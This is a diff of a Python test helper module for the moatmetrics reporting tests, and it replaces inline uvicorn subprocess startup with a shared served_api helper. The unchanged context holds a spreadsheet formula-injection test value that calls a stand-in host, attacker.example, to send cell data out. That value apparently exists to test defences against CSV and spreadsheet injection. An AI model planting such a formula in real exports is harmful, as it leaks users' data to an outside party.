@@ -4,9 +4,6 @@ reading the API's rows and a PDF's text lines."""
 from __future__ import annotations
 
 import io
-import os
-import subprocess
-import sys
 from collections.abc import Iterator, Sequence
 from dataclasses import dataclass
 from decimal import ROUND_HALF_UP, Decimal
@@ -16,12 +13,12 @@ from typing import Any
 import httpx
 from PIL import Image
 from pypdf import PdfReader
-from serving import free_port, wait_for_api
+from serving import served_api
 
 from moatmetrics.appdb.audit import Actor
 from moatmetrics.appdb.db import session_scope
 from moatmetrics.appdb.keys import ROLES, create_key
-from moatmetrics.settings import REPO_ROOT, Settings
+from moatmetrics.settings import Settings
 
 # Text a spreadsheet would run as a formula if it were written as one.
 HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?x="&A1,"Acme")'
@@ -84,22 +81,8 @@ def serve(
             # One server per log folder; several may serve one home (key names are unique).
             name = f"reports-{log.parent.name}-{role}"
             keys[role] = create_key(session, Actor("tests"), name, role)[1]
-    port = free_port()
-    env = {**os.environ, "MOATMETRICS_HOME": str(settings.home), "DO_NOT_TRACK": "1",
-           "MOATMETRICS_RATE_LIMIT_PER_MINUTE": "0", "MOATMETRICS_RUN_ON_UPLOAD": "0",
-           **(env or {})}  # fmt: skip
-    with open(log, "ab") as out:
-        server = subprocess.Popen(
-            [sys.executable, "-m", "uvicorn", "api.main:app", "--host", "127.0.0.1",
-             "--port", str(port), "--log-level", "warning", "--no-access-log"],
-            cwd=REPO_ROOT, env=env, stdout=out, stderr=subprocess.STDOUT,
-        )  # fmt: skip
-    try:
-        wait_for_api(port, server)
-        yield Api(f"http://127.0.0.1:{port}", keys, snapshot_id)
-    finally:
-        server.terminate()
-        server.wait(timeout=10)
+    with served_api(settings.home, log, MOATMETRICS_RUN_ON_UPLOAD="0", **(env or {})) as url:
+        yield Api(url, keys, snapshot_id)
 
 
 def logo_png(path: Path, size: tuple[int, int] = (240, 80)) -> Path:
